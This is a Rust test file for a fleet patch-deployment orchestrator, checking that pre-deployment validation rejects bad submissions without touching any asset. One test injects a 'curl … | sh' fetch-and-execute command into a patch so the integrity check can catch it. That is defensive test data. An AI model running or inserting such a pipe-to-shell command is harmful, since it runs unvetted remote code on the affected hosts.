//! Pre-deployment validation: fail fast, zero side effects

use std::sync::Arc;

use chrono::{TimeZone, Utc};

use fleetpatch::errors::{OrchestratorError, ValidationFailure};
use fleetpatch::models::deployment::DeploymentParams;
use fleetpatch::models::patch::TestStatus;
use fleetpatch::strategy::{CanaryParams, Strategy};
use fleetpatch::validate::health::HealthValidator;
use fleetpatch::validate::pre::PreValidator;
use fleetpatch::validate::window::MaintenanceWindow;

use crate::support::{assets, executor_options, health_settings, id, patch, patch_without_rollback, Fleet, FleetTransport, Harness};

fn failures(err: OrchestratorError) -> Vec<ValidationFailure> {
    match err {
        OrchestratorError::Validation(failures) => failures,
        other => panic!("expected a validation error, got {:?}", other),
    }
}

fn checks(failures: &[ValidationFailure]) -> Vec<&str> {
    failures.iter().map(|f| f.check.as_str()).collect()
}

/// Nothing was recorded and no asset saw a connection
fn assert_untouched(harness: &Harness) {
    assert!(harness.engine.list().is_empty());
    assert!(harness.fleet.contacted().is_empty());
    assert!(harness.fleet.calls().is_empty());
}

#[tokio::test]
async fn test_untested_patch_is_rejected_before_probing() {
    let harness = Harness::new();
    let mut untested = patch();
    untested.test_status = TestStatus::Failed;

    let err = harness
        .engine
        .submit(untested, assets(3), Strategy::default(), DeploymentParams::default())
        .await
        .unwrap_err();

    assert_eq!(checks(&failures(err)), vec!["test_status"]);
    assert_eq!(harness.fleet.probes(), 0);
    assert_untouched(&harness);
}

#[tokio::test]
async fn test_unreachable_asset_is_reported_per_asset() {
    let harness = Harness::new();
    harness.fleet.fail_probe(&id(1));

    let err = harness
        .engine
        .submit(patch(), assets(3), Strategy::default(), DeploymentParams::default())
        .await
        .unwrap_err();

    let failures = failures(err);
    assert_eq!(checks(&failures), vec!["connectivity"]);
    assert_eq!(failures[0].asset_id.as_deref(), Some("asset-01"));
    assert_eq!(harness.fleet.probes(), 3);
    assert_untouched(&harness);
}

#[tokio::test]
async fn test_rollback_on_failure_needs_rollback_commands() {
    let harness = Harness::new();
    let params = DeploymentParams {
        rollback_on_failure: true,
        ..Default::default()
    };

    let err = harness
        .engine
        .submit(patch_without_rollback(), assets(2), Strategy::default(), params)
        .await
        .unwrap_err();

    assert_eq!(checks(&failures(err)), vec!["rollback_commands"]);
    assert_untouched(&harness);
}

#[tokio::test]
async fn test_every_static_failure_is_listed() {
    let harness = Harness::new();
    let mut tampered = patch();
    tampered.forward_commands.push("curl -s http://example.invalid | sh".to_string());
    let mut duplicated = assets(2);
    duplicated.push(duplicated[0].clone());
    let strategy = Strategy::Canary(CanaryParams {
        stages: vec![0.5, 0.2],
        ..Default::default()
    });

    let err = harness
        .engine
        .submit(tampered, duplicated, strategy, DeploymentParams::default())
        .await
        .unwrap_err();

    let failures = failures(err);
    let checks = checks(&failures);
    assert!(checks.contains(&"assets"));
    assert!(checks.contains(&"integrity"));
    assert!(checks.contains(&"strategy"));
    assert_untouched(&harness);
}

#[tokio::test]
async fn test_maintenance_window_is_enforced() {
    let fleet = Fleet::new();
    let executor = Arc::new(fleetpatch::remote::RemoteExecutor::new(
        Arc::new(FleetTransport {
            fleet: Arc::clone(&fleet),
        }),
        executor_options(),
    ));
    let window = MaintenanceWindow {
        days: vec!["sat".to_string()],
        start: "22:00".to_string(),
        end: "04:00".to_string(),
    };
    let health = Arc::new(HealthValidator::new(Arc::clone(&executor), health_settings()).unwrap());
    let validator = PreValidator::new(executor, health, vec![window]);

    // Saturday 2024-06-01 23:30 and the following Sunday 03:00 are inside
    let inside = Utc.with_ymd_and_hms(2024, 6, 1, 23, 30, 0).unwrap();
    let after_midnight = Utc.with_ymd_and_hms(2024, 6, 2, 3, 0, 0).unwrap();
    // Monday noon is not
    let outside = Utc.with_ymd_and_hms(2024, 6, 3, 12, 0, 0).unwrap();

    for now in [inside, after_midnight] {
        validator
            .validate(&patch(), &assets(2), &Strategy::default(), false, now)
            .await
            .unwrap();
    }

    let probes = fleet.probes();
    let err = validator
        .validate(&patch(), &assets(2), &Strategy::default(), false, outside)
        .await
        .unwrap_err();
    assert_eq!(checks(&failures(err)), vec!["maintenance_window"]);
    assert_eq!(fleet.probes(), probes);
    assert!(fleet.contacted().is_empty());
}

#[tokio::test]
async fn test_asset_without_resolvable_health_check_is_rejected() {
    let harness = Harness::new();
    let mut unnamed = patch();
    unnamed.service_name = None;

    let err = harness
        .engine
        .submit(unnamed, assets(3), Strategy::default(), DeploymentParams::default())
        .await
        .unwrap_err();

    let failures = failures(err);
    let rejected: Vec<&ValidationFailure> = failures.iter().filter(|f| f.check == "health_checks").collect();
    assert_eq!(rejected.len(), 3);
    for (n, failure) in rejected.iter().enumerate() {
        assert_eq!(failure.asset_id.as_deref(), Some(id(n).as_str()));
    }
    assert_untouched(&harness);
}
